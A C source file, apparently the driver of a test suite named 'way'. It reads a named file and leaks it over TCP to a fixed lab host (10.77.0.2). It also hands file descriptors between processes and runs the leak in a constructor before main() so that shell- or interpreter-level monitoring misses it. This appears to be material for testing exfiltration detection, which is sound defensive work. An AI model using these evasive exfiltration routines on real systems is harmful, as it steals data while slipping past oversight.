// SPDX-License-Identifier: GPL-2.0-only
/*
 * Leaks a file to the other host in a way that a shell or an interpreter has no words for.
 *   way NAME FILE
 */
#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#include "way.h"

noreturn void way_fail(const char *what)
{
	perror(what);
	_exit(1);
}

size_t way_read(const char *path, char *data)
{
	int fd = open(path, O_RDONLY);
	ssize_t size = read(fd, data, WAY_SIZE);

	WAY_MUST(size > 0);
	close(fd);
	return size;
}

void way_send(const void *data, size_t size)
{
	struct sockaddr_in address = { .sin_family = AF_INET, .sin_port = htons(9) };
	int fd = socket(AF_INET, SOCK_STREAM, 0);

	inet_pton(AF_INET, "10.77.0.2", &address.sin_addr);
	WAY_MUST(!connect(fd, (void *)&address, sizeof(address)));
	WAY_MUST(write(fd, data, size) == (ssize_t)size);
	close(fd);
}

void way_tell(int *ends)
{
	WAY_MUST(write(ends[1], "x", 1) == 1);
}

void way_await(int *ends)
{
	char byte;

	WAY_MUST(read(ends[0], &byte, 1) == 1);
}

void way_pass(int socket, int fd)
{
	union {
		struct cmsghdr header;
		char space[CMSG_SPACE(sizeof(int))];
	} control = { .header = { CMSG_LEN(sizeof(int)), SOL_SOCKET, SCM_RIGHTS } };
	struct iovec part = { "x", 1 };
	struct msghdr message = {
		.msg_iov = &part, .msg_iovlen = 1, .msg_control = &control, .msg_controllen = sizeof(control.space)
	};

	memcpy(CMSG_DATA(&control.header), &fd, sizeof(fd));
	WAY_MUST(sendmsg(socket, &message, 0) == 1);
}

int way_take(int socket)
{
	union {
		struct cmsghdr header;
		char space[CMSG_SPACE(sizeof(int))];
	} control;
	char byte;
	struct iovec part = { &byte, 1 };
	struct msghdr message = {
		.msg_iov = &part, .msg_iovlen = 1, .msg_control = &control, .msg_controllen = sizeof(control.space)
	};
	int fd;

	WAY_MUST(recvmsg(socket, &message, 0) == 1);
	memcpy(&fd, CMSG_DATA(&control.header), sizeof(fd));
	return fd;
}

/* Before main() there is no more than this. */
__attribute__((constructor)) static void at_start(int count, char **words)
{
	static char data[WAY_SIZE];

	if (count == 3 && !strcmp(words[1], "constructor")) {
		way_send(data, way_read(words[2], data));
		_exit(0);
	}
}

int main(int count, char **words)
{
	static const struct way *const chapters[] = { way_moments, way_memory, way_others, way_late };
	const struct way *way;

	if (count != 3)
		return 2;
	for (size_t i = 0; i < sizeof(chapters) / sizeof(*chapters); i++)
		for (way = chapters[i]; way->name; way++)
			if (!strcmp(way->name, words[1])) {
				way->run(words[2]);
				return 0;
			}
	fprintf(stderr, "way: no way %s\n", words[1]);
	return 2;
}
